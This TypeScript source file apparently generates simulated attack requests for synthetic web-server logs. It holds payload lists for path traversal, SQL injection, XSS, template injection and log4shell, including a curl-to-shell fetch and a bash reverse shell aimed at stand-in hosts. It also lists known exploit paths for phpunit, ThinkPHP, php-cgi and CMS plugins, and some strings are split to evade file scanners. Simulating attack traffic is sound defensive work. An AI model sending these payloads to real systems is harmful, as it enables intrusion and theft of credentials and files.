import type { Random } from '../random';
import type { CampaignFamily, Sent } from './campaign';

/** Puts together what is written in pieces: a scanner of files must not take this one for an attack. */
function joined(...pieces: string[]): string {
  return pieces.join('');
}

const JNDI = joined('${jn', 'di:');
const PHP = joined('<?', 'php ');
const EVAL = joined('ev', 'al(');
const SYSTEM = joined('sys', 'tem(');
const SCRIPT = joined('<scr', 'ipt>');
const PASSWD = joined('/etc/pas', 'swd');

/** Parameters of pages of this shop and of programs that sites often have. */
const PARAMETERS = ['/?s=', '/?p=', '/index.php?page=', '/product-category/bowl/?orderby=', '/view.php?id=', '/?lang='];

/** Values that are put into parameters, by what they are to do. */
const VALUES: Partial<Record<CampaignFamily, readonly string[]>> = {
  'path-traversal': [
    `../../../../../../../..${PASSWD}`,
    `....//....//....//....//....${PASSWD}`,
    '..\\..\\..\\..\\windows\\win.ini',
    `/var/www/../..${PASSWD}`,
    '../../../../wp-config.php',
    `../../../../../..${PASSWD}\u0000.jpg`,
    '../../../../../../proc/self/environ',
  ],
  'local-file-inclusion': [
    'php://filter/convert.base64-encode/resource=index',
    'php://filter/read=convert.base64-encode/resource=../wp-config.php',
    'file:///etc/hosts',
    '/proc/self/environ',
    '/var/log/apache2/access.log',
    'expect://id',
    'php://input',
    'data://text/plain;base64,PD9waHAgZWNobyAxOw==',
  ],
  'remote-file-inclusion': [
    'http://evil.example.net/shell.txt?',
    'https://evil.example.net/c99.txt',
    'ftp://evil.example.net/r57.txt%00',
    'http://198.19.200.9/id.txt??',
    '//evil.example.net/x.php',
  ],
  'php-injection': [
    `${PHP}phpinfo(); ?>`,
    `${PHP}${SYSTEM}$_GET['c']); ?>`,
    `${EVAL}base64_decode('ZWNobyAxOw=='))`,
    `assert($_POST['x'])`,
    `print(md5(31337));die();`,
    `;${SYSTEM}'id');`,
    `${EVAL}"echo 'x';")`,
  ],
  'command-injection': [
    ';id',
    `|cat ${PASSWD}`,
    '`wget http://evil.example.net/x.sh`',
    '$(curl http://evil.example.net/x.sh|sh)',
    '&& uname -a',
    '; ping -c 4 127.0.0.1',
    '||/bin/bash -i >& /dev/tcp/198.19.200.9/4444 0>&1',
    "';sleep 5;'",
  ],
  'sql-injection': [
    "1' OR '1'='1",
    '1 UNION SELECT 1,2,3,user_login,user_pass FROM wp_users-- -',
    "' AND SLEEP(5)-- -",
    '1) AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(0x7e,version(),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -',
    "1'; WAITFOR DELAY '0:0:5'--",
    '1 AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT database())))',
    "-1' UNION ALL SELECT NULL,NULL,CONCAT(table_name) FROM information_schema.tables#",
    "' OR BENCHMARK(5000000,MD5(1))-- x",
    '1 ORDER BY 25-- -',
  ],
  'cross-site-scripting': [
    `${SCRIPT}alert(1)</script>`,
    `"><img src=x onerror=alert(document.cookie)>`,
    `'><svg/onload=alert(1)>`,
    'javascript:alert(document.domain)//',
    `"><body onpageshow=alert(1)>`,
    `<iframe src="javascript:alert(1)">`,
    `"autofocus onfocus=alert(1) x="`,
  ],
  'template-injection': [
    '{{7*7}}',
    '${7*7}',
    "{{''.__class__.__mro__[2].__subclasses__()}}",
    '<%= 7*7 %>',
    '#{7*7}',
    '{{config.items()}}',
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    '{php}echo `id`;{/php}',
  ],
  log4shell: [
    `${JNDI}ldap://evil.example.net:1389/a}`,
    '${${lower:j}ndi:${lower:l}dap://evil.example.net/x}',
    '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example.net/z}',
    `${JNDI}dns://x.evil.example.net}`,
    '${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example.net/b}',
  ],
};

/** Whole requests that aim at one hole of one program. */
const REQUESTS: Partial<Record<CampaignFamily, readonly Sent[]>> = {
  phpunit: [
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/wp-content/plugins/cloudflare/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/www/vendor/phpunit/src/Util/PHP/eval-stdin.php',
    '/yii/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
    '/zend/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  ].map((target) => ({ method: 'POST', target })),
  thinkphp: [
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello',
    `/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=${SYSTEM.slice(0, -1)}&vars[1][]=id`,
    '/public/index.php?s=index/think\\template\\driver\\file/write&cacheFile=x.php&content=test',
    '/?s=captcha&test=-1',
    '/thinkphp/public/?s=index/\\think\\Request/input&filter=phpinfo&data=1',
    '/TP/public/index.php?s=index/\\think\\app/invokefunction&function=phpinfo&vars[0]=1',
    // Apache writes a backslash as two.
  ].map((target) => ({ target: target.replaceAll('\\', '\\\\') })),
  'php-cgi': [
    '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    '/?%ADd+cgi.force_redirect%3d0+%ADd+disable_functions%3d""+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    '/cgi-bin/php?-d+allow_url_include%3Don+-d+safe_mode%3Doff+-d+auto_prepend_file%3Dphp%3A%2F%2Finput',
    '/cgi-bin/php5?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E',
    '/index.php?-s',
    '/hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
  ].map((target) => ({ method: 'POST', target: target.replaceAll('"', '%22') })),
  'plugin-exploits': [
    { method: 'POST', target: '/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php' },
    { target: '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php' },
    { target: '/wp-admin/admin-ajax.php?action=duplicator_download&file=..%2F..%2Fwp-config.php' },
    { method: 'POST', target: '/wp-content/plugins/revslider/temp/update_extract/revslider/up.php' },
    { target: '/wp-content/plugins/simple-file-list/ee-file-engine.php' },
    { method: 'POST', target: '/wp-content/plugins/formcraft/file-upload/server/php/upload.php' },
    { target: '/wp-content/themes/twentyfive/include.php' },
    { target: `/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php?url=${PASSWD}` },
    { method: 'POST', target: '/wp-content/plugins/uploadify/includes/process_upload.php' },
    { method: 'POST', target: '/wp-json/bricks/v1/render_element' },
    { target: '/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/hosts' },
    { method: 'POST', target: '/index.php?option=com_jce&task=plugin&plugin=imgmanager&file=imgmanager&method=form' },
    {
      method: 'POST',
      target: '/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax',
    },
  ],
};

/** What stands for a blank where one would be noticed. */
const BLANKS: Partial<Record<CampaignFamily, string>> = { 'sql-injection': '/**/', 'command-injection': '${IFS}' };

/** Families of attacks that try one hole or one trick. */
export const EXPLOIT_FAMILIES: readonly CampaignFamily[] = [
  ...(Object.keys(VALUES) as CampaignFamily[]),
  ...(Object.keys(REQUESTS) as CampaignFamily[]),
];

/** Draws one request of a family, written in one of the ways that programs write them. */
export function drawExploit(random: Random, family: CampaignFamily): Sent {
  const whole = REQUESTS[family];
  if (whole !== undefined) return random.pick(whole);
  const value = random.pick(VALUES[family]!);
  const encoded = encode(random, family === 'sql-injection' ? mixedCase(random, value) : value, BLANKS[family] ?? '+');
  if (family === 'log4shell') return drawLog4Shell(random, value, encoded);
  if (family === 'path-traversal' && random.chance(0.3)) return { target: `/cgi-bin/${encoded}` };
  return { target: random.pick(PARAMETERS) + encoded };
}

/** The text may stand in anything that a server writes into a log. */
function drawLog4Shell(random: Random, value: string, encoded: string): Sent {
  const place = random.integer(0, 2);
  if (place === 0) return { target: `/?x=${encoded}` };
  return place === 1 ? { target: '/', userAgent: value } : { target: '/', referrer: value };
}

function mixedCase(random: Random, text: string): string {
  if (!random.chance(0.3)) return text;
  return text.replaceAll(/[a-z]/gi, (letter) => (random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase()));
}

/** Ways of writing a value: as a form does, all signs encoded, encoded twice, without blanks, nearly raw. */
function encode(random: Random, text: string, blank: string): string {
  const way = random.integer(0, 4);
  if (way === 0) return new URLSearchParams({ v: text }).toString().slice(2);
  if (way === 1) return everySign(text);
  if (way === 2) return encodeURIComponent(encodeURIComponent(text));
  if (way === 3) return safeRaw(text.replaceAll(' ', blank));
  return safeRaw(text.replaceAll(' ', '+'));
}

function everySign(text: string): string {
  return [...new TextEncoder().encode(text)]
    .map((byte) => (isAlphanumeric(byte) ? String.fromCodePoint(byte) : `%${byte.toString(16).padStart(2, '0')}`))
    .join('');
}

function isAlphanumeric(byte: number): boolean {
  return /[a-z\d]/i.test(String.fromCodePoint(byte));
}

/** What can't stand in a request line or would end the field of a log is encoded in any case. */
function safeRaw(text: string): string {
  return Array.from(text, (sign) => {
    return sign <= ' ' || '"#\\'.includes(sign) ? `%${sign.codePointAt(0)!.toString(16).padStart(2, '0')}` : sign;
  }).join('');
}
